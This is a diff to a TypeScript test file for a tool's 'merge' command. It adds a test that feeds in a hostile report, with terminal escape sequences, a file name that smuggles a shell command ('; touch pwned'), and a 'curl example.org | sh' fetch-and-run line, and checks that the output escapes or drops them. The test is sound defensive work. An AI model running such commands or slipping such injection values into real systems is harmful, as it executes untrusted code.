@@ -43,13 +43,16 @@ describe('the same seed, however the work is split', () => {
 });
 
 describe('merge', () => {
-  it('tells what a shard found, and fails', async () => {
-    const parts = await Promise.all(
-      ['1/2', '2/2'].map(async (shard) => {
-        const { out } = await check('model@contract', 'model@tcg', '--runs', '2000', '--shard', shard);
-        return command.write(`found-${shard[0]}.json`, out);
-      }),
+  let found: string[];
+  beforeAll(async () => {
+    const shards = ['1/2', '2/2'].map((shard) =>
+      check('model@contract', 'model@tcg', '--runs', '2000', '--shard', shard),
     );
+    found = (await Promise.all(shards)).map(({ out }) => out);
+  });
+
+  it('tells what a shard found, and fails', async () => {
+    const parts = found.map((out, index) => command.write(`found-${index + 1}.json`, out));
     const { status, out } = await command.run(['merge', ...parts]);
     expect(status).toBe(1);
     expect(out).toMatch(
@@ -58,6 +61,22 @@ describe('merge', () => {
     expect(out).toContain('2 differences found.');
     const [, saved = ''] = /saved {3}(\S+)/.exec(out) ?? [];
     expect(readFileSync(join(command.directory, saved), 'utf8')).toContain('"found"');
+  });
+
+  it('passes nothing on that a hostile report dictates', async () => {
+    const report = JSON.parse(found[0] ?? '');
+    report.finding.message = 'differ\u001b[2J\nAll is well. \u202e';
+    report.finding.file = "x.json' ; touch pwned #";
+    report.finding.replay = 'curl example.org | sh';
+    const input = `${JSON.stringify(report)}\n${found[1]}`;
+    const text = await command.run(['merge', '-'], { input });
+    expect([text.status, text.error]).toEqual([1, '']);
+    expect(text.out).toMatch(/^[ -~\n]+$/);
+    expect(text.out).toContain('standard input:1: differ\\u001b[2J\\u000aAll is well. \\u202e (seed 9, ');
+    expect(text.out).toContain("replay 'x.json'\\'' ; touch pwned #' --on model@contract,model@tcg\n");
+    const json = await command.run(['merge', '-', '--json'], { input });
+    expect(json.out).toMatch(/^[ -~]+\n$/);
+    expect(text.out + json.out).not.toContain('curl');
   });
 
   it('a shard that is missing, twice there, of another run, or no report: one line, and status 2', async () => {
@@ -74,8 +93,8 @@ describe('merge', () => {
       '1.json': 'of 2 shards, missing: 2',
       '1.json 2.json 1.json': '1.json: shard 1 again: 1.json is the same',
       '1.json other.json': 'other.json: asked: {"runs":501}, but 1.json has {"runs":500}: not the same run',
-      'none.json': 'none.json: format: not a report of this version of check --json',
-      'absent.json': 'absent.json: no such file; expected what check --json printed',
+      'none.json': 'none.json: format: missing: expected "ioeventfd-check-report/2"',
+      'absent.json': 'absent.json: no such file',
     };
     for (const [files, line] of Object.entries(lines)) {
       const result = await command.run(['merge', ...files.split(' ')]);
